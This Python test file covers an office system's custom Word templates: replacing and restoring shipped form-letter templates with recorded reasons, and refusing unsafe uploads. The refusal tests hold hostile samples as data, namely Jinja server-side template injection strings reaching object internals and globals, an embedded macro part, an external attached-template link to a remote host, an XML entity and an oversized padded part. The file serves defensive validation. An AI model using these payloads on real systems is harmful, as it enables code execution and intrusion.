"""Templates of an office in place of the shipped ones: what is taken, what is refused and why."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest

from office import documents, paper_templates
from office.paper_forms import PAPERS
from storage.errors import NotFound, Refusal


def _word(*lines: str) -> bytes:
    doc = docx.Document()
    for line in lines:
        doc.add_paragraph(line)
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def _with(content: bytes, name: str, part: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for one in old.namelist():
            if one != name:
                new.writestr(one, old.read(one))
        new.writestr(name, part)
    return out.getvalue()


def _text(content: bytes) -> str:
    return "\n".join(paragraph.text for paragraph in docx.Document(io.BytesIO(content)).paragraphs)


@pytest.mark.parametrize("form", PAPERS)
def test_the_shipped_templates_name_only_what_is_known(form):
    paper_templates.check(PAPERS[form], paper_templates.shipped(form))


def test_an_own_template_is_used_until_the_shipped_one_is_restored(desk):
    with desk.store.begin() as uow:
        case_id = desk.open(uow)

        def made() -> str:
            return _text(documents.draft(uow, desk.org, case_id, "FM23", {}, now=desk.now, by="wang").content)

        assert "此函。" in made()
        own = _word("我单位自己的便函：{{ case_number }}")
        args = {"now": desk.now, "by": "boss"}
        assert paper_templates.replace(uow, desk.org, "FM23", "新便函.docx", own, reason="换抬头", **args) == 1
        assert made() == "我单位自己的便函：FWZX-2026-V-0001"
        assert paper_templates.restore(uow, desk.org, "FM23", reason="改回", **args) == 2
        assert "此函。" in made()
        told = [
            (one["version"], one["own"], one["name"], one["reason"]) for one in paper_templates.versions(uow, desk.org)
        ]
        assert told == [(2, False, "", "改回"), (1, True, "新便函.docx", "换抬头")]
        with pytest.raises(Refusal) as refused:
            paper_templates.restore(uow, desk.org, "FM23", reason="再改", **args)
        assert refused.value.code == "template.is_shipped"
        with pytest.raises(Refusal) as refused:
            paper_templates.replace(uow, desk.org, "FM23", "x.docx", own, reason=" ", **args)
        assert refused.value.code == "template.no_reason"
        with pytest.raises(NotFound):
            paper_templates.replace(uow, desk.org, "FM99", "x.docx", own, reason="x", **args)


REMOTE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "template.not_word"),
        (b"PK\x03\x04nothing", "template.not_word"),
        (_with(_word("x"), "word/document.xml", b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"), "template.not_word"),
        (_with(_word("x"), "word/vbaProject.bin", b"x"), "template.macros"),
        (_with(_word("x"), "word/_rels/settings.xml.rels", REMOTE), "template.external"),
        (_with(_word("x"), "word/media/x.bin", b"\0" * paper_templates.UNPACKED), "template.not_word"),
        (_word("{{ petitioner_id_no }}"), "template.unknown_name"),
        (_word("{{ org.__class__.__mro__ }}"), "template.broken"),
        (_word("{{ cycler.__init__.__globals__ }}"), "template.broken"),
        (_word("{% for x in y %}"), "template.broken"),
        (_word("{{ 1/0 }}"), "template.broken"),
        (b"x" * (paper_templates.LARGEST + 1), "template.too_large"),
    ],
)
def test_what_is_no_template_is_refused_with_the_reason(content, code):
    with pytest.raises(Refusal) as refused:
        paper_templates.check(PAPERS["FM23"], content)
    assert refused.value.code == code
    if code == "template.unknown_name":
        assert refused.value.details
